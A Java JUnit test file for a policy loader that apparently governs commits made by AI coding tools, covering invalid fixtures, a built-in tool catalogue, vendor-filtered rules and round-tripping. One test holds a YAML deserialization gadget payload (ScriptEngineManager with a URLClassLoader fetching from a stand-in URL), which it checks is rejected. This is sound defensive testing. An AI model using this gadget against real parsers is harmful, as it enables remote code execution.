package dev.aigate.policy;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.List;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

class PolicyLoaderTest {
  private static final Path INVALID = Path.of("src/test/resources/policies/invalid");

  static Stream<String> invalidFixtures() throws IOException {
    try (Stream<Path> s = Files.list(INVALID)) {
      List<String> names = s.map(p -> p.getFileName().toString()).filter(n -> n.endsWith(".yml")).sorted().toList();
      assertTrue(names.size() >= 10);
      return names.stream();
    }
  }

  /** Each invalid fixture is rejected with exactly the diagnostics in its .expected file, all at once. */
  @ParameterizedTest(name = "{0}")
  @MethodSource("invalidFixtures")
  void invalidPolicyReportsEveryProblemWithItsPosition(String name) throws IOException {
    String text = Files.readString(INVALID.resolve(name), StandardCharsets.UTF_8);
    String expected = Files.readString(INVALID.resolve(name.replace(".yml", ".expected")), StandardCharsets.UTF_8);
    InvalidPolicyException e = assertThrows(InvalidPolicyException.class, () -> PolicyLoader.parse(text, name));
    assertEquals(expected, e.render());
  }

  @Test
  void embeddedDefaultDetectsEverythingAndRequiresReviewEverywhere() {
    Policy p = PolicyLoader.embeddedDefault();
    assertEquals(Mode.ENFORCE, p.mode());
    assertEquals(Action.REQUIRE_REVIEW, p.defaultAction());
    assertTrue(p.rules().isEmpty());
    assertTrue(p.ai().builtin());
    assertTrue(p.ai().environment());
    assertEquals(1, p.review().required());
  }

  @Test
  void builtinCatalogueHasTheStableIdsOthersRelyOn() {
    List<ToolSignature> catalogue = PolicyLoader.builtinCatalogue();
    String[][] required = {
      {"claude-code", "anthropic"}, {"codex", "openai"}, {"copilot", "github"}, {"aider", "aider"},
      {"cursor", "cursor"}, {"gemini", "google"}, {"jules", "google"}, {"devin", "cognition"},
      {"openhands", "all-hands"}, {"amp", "sourcegraph"}, {"opencode", "sst"}, {"qwen-code", "alibaba"},
      {"amazon-q", "amazon"}, {"windsurf", "cognition"}, {"replit", "replit"}, {"unknown", "unknown"}
    };
    for (String[] r : required) {
      assertTrue(catalogue.stream().anyMatch(t -> t.id().equals(r[0]) && t.vendor().equals(r[1])),
          r[0] + "/" + r[1] + " is missing from the catalogue");
    }
  }

  @Test
  void policyToolReplacesTheBuiltinWithTheSameId() throws InvalidPolicyException {
    Policy p = PolicyLoader.parse("""
        version: 1
        ai:
          tools:
            - {id: cursor, vendor: cursor, emails: ["bot@corp.example"]}
            - {id: metacode, vendor: meta, emails: ["metacode@*"], names: ["MetaCode*"], message: ["(?i)generated with metacode"]}
        """, "t.yml");
    ToolSignature cursor = p.ai().catalogue().stream().filter(t -> t.id().equals("cursor")).findFirst().orElseThrow();
    assertEquals(1, cursor.emails().size());
    assertEquals("bot@corp.example", cursor.emails().get(0).toString());
    assertTrue(p.ai().catalogue().stream().anyMatch(t -> t.id().equals("metacode")));
    assertEquals(1, p.ai().catalogue().stream().filter(t -> t.id().equals("cursor")).count());
  }

  @Test
  void builtinOffLeavesOnlyThePolicysTools() throws InvalidPolicyException {
    Policy p = PolicyLoader.parse("version: 1\nai: {builtin: false, tools: [{id: x, vendor: y}]}\n", "t.yml");
    assertEquals(List.of("x"), p.ai().catalogue().stream().map(ToolSignature::id).toList());
  }

  @Test
  void rulesAreCheckedInOrderAndFilteredByVendor() throws InvalidPolicyException {
    Policy p = PolicyLoader.parse("""
        version: 1
        rules:
          - {id: rival, paths: ["evals/**"], vendors: [openai], action: deny}
          - {id: evals, paths: ["evals/**"], action: require-review}
        default: allow
        """, "t.yml");
    ToolSignature codex = tool(p, "codex");
    ToolSignature claude = tool(p, "claude-code");
    assertEquals("rival", p.ruleFor("evals/a.json", List.of(codex)).orElseThrow().id());
    assertEquals("evals", p.ruleFor("evals/a.json", List.of(claude)).orElseThrow().id());
    assertFalse(p.ruleFor("src/a.java", List.of(claude)).isPresent());
    assertEquals(Action.ALLOW, p.defaultAction());
  }

  /** policy show's output is itself a valid policy that means the same. */
  @Test
  void writtenPolicyLoadsBackToTheSamePolicy() throws Exception {
    Policy original = PolicyLoader.parse(Files.readString(Path.of("src/main/resources/dev/aigate/gate/starter.yml")),
        "starter.yml");
    String written = PolicyWriter.write(original);
    Policy again = PolicyLoader.parse(written, "written.yml");
    assertEquals(written, PolicyWriter.write(again).replace("written.yml", "starter.yml"));
    assertEquals(original.rules().size(), again.rules().size());
    assertEquals(original.ai().catalogue().size(), again.ai().catalogue().size());
  }

  @Test
  void yamlTagsNeverConstructObjects() {
    InvalidPolicyException e = assertThrows(InvalidPolicyException.class, () -> PolicyLoader.parse(
        "version: 1\nmode: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL [\"http://x\"]]]]\n",
        "evil.yml"));
    assertTrue(e.render().contains("evil.yml:2:7: not valid YAML: Global tag is not allowed"), e.render());
  }

  private static ToolSignature tool(Policy p, String id) {
    return p.ai().catalogue().stream().filter(t -> t.id().equals(id)).findFirst().orElseThrow();
  }
}
